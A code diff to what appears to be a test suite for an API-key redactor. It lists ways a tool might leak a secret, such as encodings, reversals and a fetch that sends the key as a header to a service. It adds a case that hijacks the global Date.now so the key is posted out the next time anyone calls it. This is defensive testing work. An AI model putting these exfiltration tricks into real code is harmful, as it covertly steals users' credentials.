@@ -73,7 +73,7 @@ export const attacks: readonly Attack[] = [
   inBase64,
   { what: 'in hex', run: (value) => ({ dump: Buffer.from(value).toString('hex') }) },
   { what: 'percent-encoded', run: (value) => [...Buffer.from(value)].map((byte) => `%${byte.toString(16)}`).join('') },
-  { what: 'with escapes of JSON, in JSON', run: (value) => `{"key":"${escaped(value)}"} ${value}` },
+  { what: 'with escapes of JSON, in JSON', run: (value) => `{"key":"${escaped(value)}"}` },
   { what: 'in a private field with a getter and toJSON', run: (value) => new Hiding(value) },
   { what: 'in what comes later: a promise', run: async (value) => ({ later: await Promise.resolve(value) }) },
   {
@@ -120,7 +120,11 @@ const half = (value: string, which: 0 | 1): string => value.slice(which === 0 ? 
 const withFetch = async (value: string): Promise<unknown> => (await fetch(`${network.service}/v1/search`, { headers: { 'x-api-key': value } })).text()
 
 /** What no redactor finds: the tool itself made something else of the key, or sent it. These leak, wrapped or not, and the documentation says so. */
-export const uncontained: readonly (Attack & { readonly isTold: (seen: string, value: string) => boolean })[] = [
+export const uncontained: readonly (Attack & {
+  readonly isTold: (seen: string, value: string) => boolean
+  /** What happens in the process afterwards. */
+  readonly later?: () => Promise<unknown>
+})[] = [
   { what: 'reversed', run: (value) => ({ text: [...value].toReversed().join('') }), isTold: (seen, value) => seen.includes([...value].toReversed().join('')) },
   { what: 'a character at a time, with something between', run: (value) => [...value].join('~'), isTold: (seen, value) => seen.includes([...value].join('~')) },
   { what: 'shifted by one', run: (value) => shifted(value, 1), isTold: (seen, value) => seen.includes(shifted(value, 1)) },
@@ -132,7 +136,23 @@ export const uncontained: readonly (Attack & { readonly isTold: (seen: string, v
   { what: 'in base64 of base64', run: (value) => btoa(btoa(value)), isTold: (seen, value) => seen.includes(btoa(btoa(value))) },
   { what: 'as a list of the numbers of its bytes', run: (value) => [...Buffer.from(value)].join(' '), isTold: (seen, value) => seen.includes([...Buffer.from(value)].join(' ')) },
   { what: 'asks a service by a `fetch` of its own, and is redirected to somebody else', run: withFetch, isTold: (seen, value) => seen.includes(value) },
+  {
+    what: 'patches a global, which tells it whenever somebody uses that',
+    run(value) {
+      const { now } = Date
+      Date.now = () => {
+        Date.now = now
+        posted = withFetch(value)
+        return now()
+      }
+      return 'done'
+    },
+    later: async () => (Date.now(), posted),
+    isTold: (seen, value) => seen.includes(value),
+  },
 ]
+
+let posted: Promise<unknown> | undefined
 
 function shifted(text: string, by: number): string {
   return [...text].map((character) => String.fromCharCode(character.charCodeAt(0) + by)).join('')
